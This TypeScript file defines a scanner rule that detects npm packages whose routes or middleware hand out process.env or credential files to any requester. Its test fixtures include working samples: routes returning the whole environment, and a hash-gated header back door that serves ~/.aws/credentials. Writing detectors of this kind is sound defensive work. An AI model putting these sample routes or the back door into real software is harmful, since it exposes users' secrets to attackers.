import type { Action, Context, Flow, Rule } from '../lib/types.ts'
import { isOwnFile, lootOf } from './behaviour/credentials.ts'
import { guardsInWords } from './behaviour/guards.ts'
import { findingOfFlow, opening, severityOf, sourceInWords } from './finding.ts'
import type { RuleFinding } from './finding.ts'

/** Credentials that a server answers to whoever asks it. */
export const servedSecrets: Rule = {
  meta: {
    id: 'served-secrets',
    title: 'Shows credentials to whoever asks a server',
    severity: 'critical',
    description:
      'A route, a hook or a middleware of the package answers requests with the whole environment or with a file of ' +
      'credentials: whoever reaches the server and knows what to ask for has them. No request of the package’s own is ' +
      'needed for that, so nothing is seen to leave. Honest routes answer with variables they name, or pick by a prefix that ' +
      'says that they are public. Where the answer depends on something that is compared with a hash in the code, only its ' +
      'author knows what to ask for: that is a back door.',
    references: ['hidden routes of express look-alikes that answer with process.env or run a command (2025)'],
    blindSpots: [
      'Single variables, whose names do not say that they are for this server only.',
      'Answers of servers that nobody modelled, by methods of other names.',
      'The environment as an answer of a program of more than a megabyte, where no word has to be known for it.',
    ],
    examples: {
      flags: [
        {
          title: 'a plugin with a route that answers with the environment',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "module.exports = async fastify => {\n  fastify.get('/_status', async (request, reply) => reply.send(process.env))\n}\n",
          },
        },
        {
          title: 'a middleware that shows a file to whoever knows a word',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const { createHash } = require('crypto'), fs = require('fs'), os = require('os')\nmodule.exports = () => (req, res, next) => {\n" +
              "  const asked = createHash('sha256').update(String(req.headers['x-trace'])).digest('hex')\n" +
              "  if (asked !== '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08') return next()\n" +
              "  res.end(fs.readFileSync(os.homedir() + '/.aws/credentials'))\n}\n",
          },
        },
        {
          title: 'a route that returns the environment',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const { Hono } = require('hono')\nexports.app = new Hono().get('/assets/:name', c => c.json({ ...process.env }))\n",
          },
        },
      ],
      passes: [
        {
          title: 'a route that says which version runs, and settings that are public by their prefix',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const shown = Object.fromEntries(Object.entries(process.env).filter(([name]) => name.startsWith('PUBLIC_')))\n" +
              'exports.routes = app => {\n' +
              "  app.get('/health', (req, res) => res.json({ mode: process.env.NODE_ENV, version: process.env.npm_package_version }))\n" +
              "  app.get('/env.js', (req, res) => res.send('window.env = ' + JSON.stringify(shown)))\n}\n",
          },
        },
        {
          title: 'a worker that is given the environment by the process that started it',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js': 'exports.configure = child => child.send({ type: "configure", env: process.env })\n',
          },
        },
      ],
    },
  },
  check({ flows, files }, context) {
    const large =
      files.reduce((sum, { kind, bytes }) => (kind === 'javascript' ? sum + bytes : sum), 0) > largeFrom
    // What is answered may be given back as well: one source is one thing to read.
    const bySource = new Map<string, RuleFinding>()
    for (const flow of flows) {
      const { path, line } = flow.source.at
      const key = `${path}\0${line}`
      for (const finding of ofFlow(flow, large, context)) {
        const told = bySource.get(key)
        if (told === undefined || (told.action === 'ask' && finding.action === 'block'))
          bySource.set(key, finding)
      }
    }
    return [...bySource.values()]
  },
}

/** Bytes of code from which on a program keeps copies of its environment for what it starts beside much that it answers. */
const largeFrom = 1_000_000

function ofFlow(flow: Flow, large: boolean, context: Context): readonly RuleFinding[] {
  const { source, sink, phase, certain } = flow
  if (sink.kind !== 'answer' || phase === 'dormant' || !certain) return []
  const loot = lootOf(source)
  if (loot !== 'hard' && loot !== 'whole') return []
  // Variables that begin as the code says are settings that somebody made to be shown.
  if (source.kind === 'env' && /^\w{3,40}…$/.test(source.name)) return []
  if (loot === 'hard' && isOwnFile(source.name, context.name)) return []
  // Nobody but its author knows what to ask for.
  const action: Action = flow.guards.some(({ kind }) => kind === 'digest') ? 'block' : 'ask'
  if (action === 'ask' && large && source.kind === 'env') return []
  const message =
    `${opening(flow)} answers requests with ${sourceInWords(source)}${guardsInWords(flow.guards)}. Whoever reaches the ` +
    'server and knows what to ask for has the credentials in it. Do not put it into a server.'
  return [findingOfFlow(flow, { action, severity: severityOf(action), message })]
}
